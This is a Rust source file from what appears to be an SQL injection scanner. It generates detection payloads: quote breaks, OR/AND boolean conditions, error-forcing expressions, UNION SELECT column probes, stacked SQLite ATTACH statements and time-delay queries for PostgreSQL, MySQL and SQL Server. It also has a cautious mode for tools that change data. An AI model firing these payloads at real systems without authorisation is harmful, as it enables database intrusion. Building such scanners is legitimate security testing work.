//! Builds the attempts that show whether a value becomes part of an SQL statement.

use super::super::pairs::{self, Ordered};
use super::super::{reach, traces};
use super::{WAIT, WAITS};
use crate::attack::{Aim, Attempt, Brief};
use crate::knowledge::words;

/// The maximum number of columns of `UNION`.
const MAX_COLUMNS: usize = 8;

/// Builds the attempts for one aim.
pub(super) struct AttemptBuilder<'a> {
    aim: &'a Aim,
    brief: &'a Brief<'a>,
    pub(super) innocent: String,
    /// The tool changes data: no condition may match more rows than the innocent value.
    careful: bool,
    set: usize,
    pub(super) made: Vec<Attempt>,
}

impl<'a> AttemptBuilder<'a> {
    pub(super) fn new(aim: &'a Aim, brief: &'a Brief<'a>, careful: bool) -> Self {
        let innocent = tame(reach::plausible(aim));
        AttemptBuilder { aim, brief, innocent, careful, set: 0, made: Vec::new() }
    }

    fn one(&mut self, form: &str, role: &str, payload: String) {
        let nonce = self.brief.nonce();
        let attempt = reach::attempt(self.aim, (self.set, form), nonce, payload);
        self.made.extend(attempt.map(|attempt| Attempt { role: role.to_owned(), ..attempt }));
    }

    fn pair(
        &mut self,
        form: &str,
        draw: impl Fn(&Brief<'_>) -> Ordered,
        payload: impl Fn(&Ordered) -> String,
    ) {
        self.made.extend(pairs::set(self.aim, self.brief, (self.set, form), draw, payload));
        self.set += 1;
    }

    pub(super) fn quotes(&mut self) {
        let innocent = self.innocent.clone();
        self.one("quote and doubled quote", "quote", format!("{innocent}'"));
        self.one("quote and doubled quote", "doubled", format!("{innocent}''"));
        self.set += 1;
    }

    /// `<` keeps its truth value whatever the statement appends to the text, such as the `%` of a `LIKE`.
    pub(super) fn conditions(&mut self) {
        if !self.careful {
            self.pair("condition with OR", Ordered::words, |pair| {
                format!("zq' OR '{}'<'{}", pair.low, pair.high)
            });
        }
    }

    pub(super) fn double_quotes(&mut self) {
        if !self.careful {
            self.pair("condition with OR in double quotes", Ordered::words, |pair| {
                format!("zq\" OR \"{}\"<\"{}", pair.low, pair.high)
            });
        }
    }

    pub(super) fn conditions_of_innocent(&mut self) {
        let innocent = self.innocent.clone();
        self.pair("condition with AND", Ordered::words, |pair| {
            format!("{innocent}' AND '{}'<'{}", pair.low, pair.high)
        });
    }

    pub(super) fn numeric(&mut self) {
        let innocent = self.innocent.clone();
        if !self.careful && self.aim.baseline.is_none() {
            self.pair("condition with OR after a number", Ordered::numbers, |pair| {
                format!("0 OR {}<{}", pair.low, pair.high)
            });
        }
        self.pair("condition with AND after a number", Ordered::numbers, |pair| {
            format!("{innocent} AND {}<{}", pair.low, pair.high)
        });
    }

    /// An expression inside a text that fails at run time if the condition is false. Each
    /// database fails for a different reason.
    pub(super) fn failures(&mut self) {
        let innocent = self.innocent.clone();
        self.pair("expression inside a text", Ordered::numbers, |pair| {
            let failure = "CAST(abs(-9223372036854775808)/0 AS CHAR(9))";
            let (low, high) = (&pair.low, &pair.high);
            format!("{innocent}'||(CASE WHEN {low}<{high} THEN '' ELSE {failure} END)||'")
        });
    }

    /// Whether the value is the name of a table or column, or a sort order.
    pub(super) fn is_name(&self) -> bool {
        const NAMES: [&str; 12] = [
            "by",
            "column",
            "columns",
            "direction",
            "dir",
            "field",
            "fields",
            "group",
            "order",
            "sort",
            "table",
            "sorting",
        ];
        let argument = words(&self.aim.place.argument().unwrap_or_default());
        argument.last().is_some_and(|word| NAMES.contains(&word.as_str()))
    }

    pub(super) fn names(&mut self) {
        self.pair("expression as sort order", Ordered::numbers, |pair| {
            format!(
                "(CASE WHEN {}<{} THEN 1 ELSE (SELECT abs(-9223372036854775808)/0 FROM (SELECT 1 UNION SELECT 2) q) END)",
                pair.low, pair.high
            )
        });
    }

    /// A comment, and the same characters in another order. Comments change nothing, so every tool gets them.
    pub(super) fn comment(&mut self) {
        // An unknown name works as well.
        let plain = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.';
        let is_plain = !self.innocent.is_empty() && self.innocent.chars().all(plain);
        let innocent = if is_plain { self.innocent.clone() } else { "q".to_owned() };
        self.pair("comment after a name or number", Ordered::words, |pair| {
            let tail = &pair.low[2..];
            if pair.low < pair.high {
                format!("{innocent}/*{tail}*/")
            } else {
                format!("{innocent}*/{tail}/*")
            }
        });
    }

    pub(super) fn union(&mut self) {
        if self.careful {
            return;
        }
        let number = self.innocent.parse::<f64>().is_ok();
        let before = if number { "0" } else { "zq'" };
        for columns in 1..=MAX_COLUMNS {
            let (a, b) = (self.brief.number(), self.brief.number());
            let row = vec![format!("{a}*{b}"); columns].join(",");
            let form = format!("UNION, {columns} columns");
            self.one(&form, &(a * b).to_string(), format!("{before} UNION SELECT {row}-- 9"));
            self.set += 1;
        }
    }

    /// Makes SQLite create a file. Changes nothing else.
    pub(super) fn statements(&mut self) {
        let ends = [
            ("additional statement after a condition", "' WHERE 1=0;"),
            ("additional statement after a list", "');"),
            ("additional statement", "';"),
        ];
        for (form, end) in ends.into_iter().take(if self.careful { 2 } else { 3 }) {
            let nonce = self.brief.nonce();
            let Some(path) = traces::marker(self.brief, &nonce) else { return };
            let attach = format!("ATTACH '{path}' AS q;CREATE TABLE q.t(x);DETACH q;-- ");
            let payload = format!("{}{end}{attach}", self.innocent);
            self.made.extend(reach::attempt(self.aim, (self.set, form), nonce, payload));
            self.set += 1;
        }
    }

    pub(super) fn waits(&mut self) {
        let (innocent, seconds) = (self.innocent.clone(), WAIT.as_secs());
        let sleep = format!("(SELECT 1 FROM (SELECT SLEEP({seconds})) q)");
        let waits = [
            ("wait in PostgreSQL", format!("'||(SELECT '' FROM pg_sleep({seconds}))||'")),
            ("wait in MySQL", format!("' AND {sleep} AND '1'='1")),
            ("wait in SQL Server", format!("';WAITFOR DELAY '0:0:{seconds}';-- ")),
        ];
        for (form, wait) in waits.into_iter().take(if self.careful { 2 } else { 3 }) {
            self.one(form, WAITS, format!("{innocent}{wait}"));
            self.set += 1;
        }
    }
}

/// The value, or its longest word if it contains quotes, since these would break the payload after it.
pub(super) fn tame(value: String) -> String {
    if !value.contains(['\'', '"', '`']) {
        return value;
    }
    let plain = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | ' ');
    let words = value.split(|c| !plain(c)).map(str::trim);
    words.max_by_key(|word| word.len()).unwrap_or_default().to_owned()
}
